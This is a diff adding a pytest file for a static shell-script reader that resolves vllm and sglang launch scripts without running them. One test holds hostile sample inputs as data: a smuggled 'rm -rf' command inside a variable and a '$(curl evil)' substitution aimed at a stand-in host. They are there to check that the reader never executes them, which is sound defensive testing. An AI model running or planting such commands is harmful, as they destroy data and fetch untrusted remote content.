@@ -1,0 +1,71 @@
+"""The importer's shell reader: a launch script read as the shell would read it, never run.
+What the file sets is resolved; what it cannot know (a variable set elsewhere, a ``$(...)``) is
+an unknown part shown as written; hostile text stays data."""
+from __future__ import annotations
+
+from parc.importer.sh_eval import commands
+from parc.importer.sh_values import U, lit
+
+
+def _run(text: str, **kw):
+    cmds, notes, _ = commands(text, "t.sh", **kw)
+    return cmds, notes
+
+
+def _words(c) -> list[str]:
+    return [a.shown for a in c.args]
+
+
+def test_variables_the_file_sets_are_resolved():
+    cmds, _ = _run('TP=8\nMODEL="meta-llama/Llama-3.1-8B"\nvllm serve "$MODEL" --tensor-parallel-size ${TP}\n')
+    assert _words(cmds[0]) == ["vllm", "serve", "meta-llama/Llama-3.1-8B", "--tensor-parallel-size", "8"]
+    assert all(a.value is not None for a in cmds[0].args)
+
+
+def test_unknown_variables_and_command_substitutions_stay_unknown():
+    cmds, _ = _run('vllm serve m --tensor-parallel-size $TP --host $(hostname -i)\n')
+    tp, host = cmds[0].args[4], cmds[0].args[6]
+    assert tp.value is None and tp.text == (U("$TP"),)
+    assert host.value is None and isinstance(host.text[0], U) and "hostname" in host.text[0].shown
+
+
+def test_a_default_is_taken_and_noted():
+    cmds, notes = _run('vllm serve m --tensor-parallel-size ${TP:-4}\n')
+    assert _words(cmds[0])[-1] == "4"
+    assert any("TP" in n for n in notes), notes
+
+
+def test_arrays_functions_and_loops_are_followed():
+    text = ('ARGS=(--tp 2)\nARGS+=(--dp 4)\nlaunch() { python -m sglang.launch_server "${ARGS[@]}" "$@"; }\n'
+            'for p in 30000 30001; do launch --port $p; done\n')
+    cmds, _ = _run(text)
+    assert [_words(c)[3:] for c in cmds] == [["--tp", "2", "--dp", "4", "--port", "30000"],
+                                            ["--tp", "2", "--dp", "4", "--port", "30001"]]
+
+
+def test_script_arguments_come_from_the_caller():
+    cmds, _ = _run('vllm serve "$1" --tensor-parallel-size 2\n', positional=[lit("org/model")])
+    assert _words(cmds[0])[2] == "org/model"
+    unknown, _ = _run('vllm serve "$1"\n')
+    assert unknown[0].args[2].value is None
+
+
+def test_hostile_text_is_never_run_and_stays_one_word():
+    text = ('X="a; rm -rf /tmp/x"\nvllm serve m --served-model-name "$X" --chat-template "$(curl evil)" '
+            "--api-key 'q\"uote' $'--tp\\n8'\n")
+    cmds, _ = _run(text)
+    assert len(cmds) == 1
+    w = cmds[0].args
+    assert w[4].value == "a; rm -rf /tmp/x"
+    assert w[6].value is None                      # a $(...) is never run
+    assert w[8].value == 'q"uote'
+    assert w[9].value == "--tp\n8"                  # a newline inside a word is not a new option
+
+
+def test_an_unbalanced_script_is_refused_not_guessed():
+    import pytest
+
+    from parc.importer.sh_tree import ShellSyntax
+
+    with pytest.raises(ShellSyntax):
+        _run('if true; then vllm serve m\n')
